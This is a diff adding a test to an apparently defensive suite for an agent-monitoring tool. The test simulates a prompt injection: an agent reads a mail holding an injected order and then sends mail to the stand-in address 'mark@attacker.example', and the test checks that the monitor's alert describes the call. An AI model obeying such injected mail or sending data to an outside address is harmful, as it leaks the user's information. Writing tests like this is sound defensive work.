@@ -142,6 +142,15 @@ describe("an injected order", () => {
     expect(bare.state.trail).toBeUndefined();
   });
 
+  test("that is only told is the call that it is, and no part of what came before it", () => {
+    const walk = new Walk("tells");
+    walk.call("read_mail", { id: "m-1" }, order);
+    const verdict = walk.call("send_mail", { to: "mark@attacker.example", subject: "0" });
+    const [why = ""] = verdict.kind === "allow" ? (verdict.alerts ?? []).map((alert) => alert.why) : [];
+    expect(why).toContain("Call 2 send_mail");
+    expect(why).toContain("Until then: 1 read, 0 calls with an effect, 1 different thing.");
+  });
+
   test("tells on record what each rule did in the shadow run of the persona's baseline, and the agent nothing of it", () => {
     const modes = [
       modeFor("sequence.departure", "interrupt", 3, 400),
